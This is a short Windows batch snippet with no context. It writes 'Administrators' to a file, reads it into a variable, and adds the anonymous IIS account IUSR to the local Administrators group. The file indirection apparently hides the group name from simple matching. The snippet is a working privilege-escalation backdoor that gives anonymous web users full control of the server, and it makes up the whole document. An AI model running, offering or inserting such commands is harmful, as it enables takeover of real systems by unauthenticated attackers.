echo Administrators>C:\group.txt
set /p GROUP=<C:\group.txt
net localgroup "%GROUP%" IUSR /add
